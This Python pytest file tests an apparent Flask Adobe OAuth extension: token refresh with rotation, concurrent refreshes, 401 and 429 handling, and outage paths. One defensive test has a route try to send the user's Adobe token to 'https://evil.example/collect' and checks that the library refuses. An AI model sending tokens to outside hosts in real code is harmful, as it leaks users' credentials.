"""The token lifecycle over real HTTP: refresh with rotation, concurrent
refreshes, 401 recovery, 429, and failure paths that end in a clear state."""

from __future__ import annotations

import threading
import time
from typing import Any

import requests
from flask import Flask
from flask.testing import FlaskClient

from flask_adobe_oauth import AdobeOAuthError, RateLimited, adobe, adobe_login_required, token_refreshed
from flask_adobe_oauth.testing import StandInAdobe
from flask_adobe_oauth.testing.live import free_port

from .conftest import login, make_app


def stored(client: FlaskClient) -> dict[str, Any] | None:
    with client.session_transaction() as sess:
        return sess.get("_ao_t")


def expire_locally(client: FlaskClient) -> None:
    with client.session_transaction() as sess:
        sess["_ao_t"] = {**sess["_ao_t"], "e": int(time.time()) - 5}


def cookie_value(client: FlaskClient) -> str:
    cookie = client.get_cookie("session")
    assert cookie is not None
    return cookie.value


def refresh_calls(standin: StandInAdobe) -> list[Any]:
    return [c for c in standin.token_calls() if c.grant_type == "refresh_token"]


def test_expired_token_is_refreshed_transparently_with_rotation(
    app: Flask, client: FlaskClient, standin: StandInAdobe
) -> None:
    login(client)
    before = stored(client)
    assert before is not None
    expire_locally(client)
    seen: list[Any] = []

    def on_refresh(sender: Flask, token: Any) -> None:
        seen.append(token)

    with token_refreshed.connected_to(on_refresh, app):
        assert client.get("/dashboard").status_code == 200
    after = stored(client)
    assert after is not None
    assert after["a"] != before["a"] and after["r"] != before["r"]
    assert after["e"] > time.time() + 3600
    assert after["u"] == before["u"]  # the identity survives the refresh
    assert len(refresh_calls(standin)) == 1 and len(seen) == 1
    # Adobe rotates: the old refresh token no longer works.
    replay = requests.post(
        standin.url + "/ims/token/v3",
        timeout=10,
        data={"grant_type": "refresh_token", "refresh_token": before["r"]},
        auth=(standin.client_id, standin.client_secret),
    )
    assert replay.status_code == 400 and replay.json()["error"] == "invalid_grant"


def test_refused_refresh_deletes_the_token_and_sends_the_browser_to_login(
    client: FlaskClient, standin: StandInAdobe
) -> None:
    login(client)
    token = stored(client)
    assert token is not None
    standin.state.revoke(token["r"])
    expire_locally(client)
    response = client.get("/dashboard")
    assert response.status_code == 302 and "/adobe/login" in response.headers["Location"]
    assert stored(client) is None


def test_refused_refresh_gives_api_callers_401(client: FlaskClient, standin: StandInAdobe) -> None:
    login(client)
    token = stored(client)
    assert token is not None
    standin.state.revoke(token["r"])
    expire_locally(client)
    response = client.get("/dashboard", headers={"Accept": "application/json"})
    assert response.status_code == 401 and response.json["error"] == "login_required"


def test_refresh_during_an_adobe_outage_is_a_502_and_keeps_the_login(
    client: FlaskClient, standin: StandInAdobe
) -> None:
    login(client)
    expire_locally(client)
    standin.fail_next_token(503, "<html>down</html>", content_type="text/html")
    assert client.get("/dashboard").status_code == 502
    assert stored(client) is not None
    assert client.get("/dashboard").status_code == 200  # Adobe is back: refreshed now


def test_concurrent_requests_with_one_expired_token_refresh_once(
    app: Flask, client: FlaskClient, standin: StandInAdobe
) -> None:
    login(client)
    expire_locally(client)
    cookie = cookie_value(client)
    barrier = threading.Barrier(8)
    results: list[int] = []

    def user_tab() -> None:
        tab = app.test_client()
        tab.set_cookie("session", cookie)
        barrier.wait()
        results.append(tab.get("/dashboard").status_code)

    threads = [threading.Thread(target=user_tab) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert results == [200] * 8
    assert len(refresh_calls(standin)) == 1


def test_cookie_does_not_grow_with_each_refresh(client: FlaskClient, standin: StandInAdobe) -> None:
    login(client)
    sizes = []
    for _ in range(5):
        expire_locally(client)
        assert client.get("/dashboard").status_code == 200
        sizes.append(len(cookie_value(client)))
    assert len(refresh_calls(standin)) == 5
    assert max(sizes) - min(sizes) <= 16


def test_api_401_is_met_with_one_refresh_and_one_retry(client: FlaskClient, standin: StandInAdobe) -> None:
    login(client)
    standin.expire_access_tokens()  # Adobe stops accepting the token before its time
    response = client.get("/me")
    assert response.status_code == 200
    assert response.json["sub"] == standin.state.user.sub
    assert len(refresh_calls(standin)) == 1


def test_api_401_after_the_retry_means_login_again(client: FlaskClient, standin: StandInAdobe) -> None:
    login(client)
    body = '{"error_code":"401013","message":"Oauth token is not valid"}'
    standin.fail_next_api(401, body)
    standin.fail_next_api(401, body)
    response = client.get("/me")
    assert response.status_code == 302 and "/adobe/login" in response.headers["Location"]
    assert stored(client) is None
    assert len(refresh_calls(standin)) == 1


def test_api_401_without_refresh_token_means_login_again(standin: StandInAdobe) -> None:
    client = make_app(standin, scope="openid AdobeID").test_client()  # no offline_access: no refresh token
    login(client)
    token = stored(client)
    assert token is not None and "r" not in token
    standin.expire_access_tokens()
    response = client.get("/me", headers={"Accept": "application/json"})
    assert response.status_code == 401
    assert refresh_calls(standin) == []


def test_429_is_a_typed_error_carrying_retry_after(
    app: Flask, client: FlaskClient, standin: StandInAdobe
) -> None:
    caught: list[RateLimited] = []

    @app.get("/throttled")
    @adobe_login_required
    def throttled() -> str:
        try:
            adobe.session.get("/ims/userinfo/v2")
        except RateLimited as exc:
            caught.append(exc)
            raise
        return "unreachable"

    login(client)
    standin.fail_next_api(429, "{}", headers={"Retry-After": "7"})
    response = client.get("/throttled")
    assert response.status_code == 429
    assert response.headers["Retry-After"] == "7"
    assert caught[0].retry_after == 7.0


def test_session_refuses_to_send_the_token_to_other_hosts(app: Flask, client: FlaskClient) -> None:
    @app.get("/leak")
    @adobe_login_required
    def leak() -> str:
        adobe.session.get("https://evil.example/collect")
        return "sent"

    login(client)
    response = client.get("/leak")
    assert response.status_code == 400
    assert b"refusing to send the Adobe token" in response.data


def test_session_outside_a_request_is_a_clear_error(app: Flask) -> None:
    try:
        adobe.session.get("/discovery/me")
    except AdobeOAuthError as exc:
        assert "outside a request" in str(exc)
    else:
        raise AssertionError("expected AdobeOAuthError")


def test_session_sends_bearer_and_api_key_to_the_api(
    app: Flask, client: FlaskClient, standin: StandInAdobe
) -> None:
    seen: dict[str, str] = {}

    @app.get("/headers")
    @adobe_login_required
    def headers() -> str:
        response = adobe.session.get("/ims/userinfo/v2")
        seen.update(response.request.headers)
        return "ok"

    login(client)
    client.get("/headers")
    token = stored(client)
    assert token is not None
    assert seen["Authorization"] == f"Bearer {token['a']}"
    assert seen["x-api-key"] == standin.client_id


def test_api_host_unreachable_is_a_502_not_a_500(standin: StandInAdobe) -> None:
    port = free_port()
    app = make_app(standin, api_base_url=f"http://127.0.0.1:{port}")

    @app.get("/api-call")
    @adobe_login_required
    def api_call() -> str:
        adobe.session.get("/discovery/me")
        return "unreachable"

    client = app.test_client()
    login(client)
    response = client.get("/api-call")
    assert response.status_code == 502
    assert b"could not connect" in response.data


def test_unusable_stored_token_means_login_again_not_a_500(client: FlaskClient) -> None:
    from flask_adobe_oauth.testing import login_as

    login_as(client, access_token="bad\u00e9token\n")
    response = client.get("/me")
    assert response.status_code == 302
    assert stored(client) is None


def test_a_netrc_entry_for_the_api_host_does_not_replace_the_users_token(
    client: FlaskClient, standin: StandInAdobe, tmp_path: Any, monkeypatch: Any
) -> None:
    netrc = tmp_path / "netrc"
    netrc.write_text("machine 127.0.0.1 login someone password netrc-password\n")
    netrc.chmod(0o600)
    monkeypatch.setenv("NETRC", str(netrc))
    login(client)
    response = client.get("/me")
    assert response.status_code == 200
    assert response.json["sub"] == standin.state.user.sub
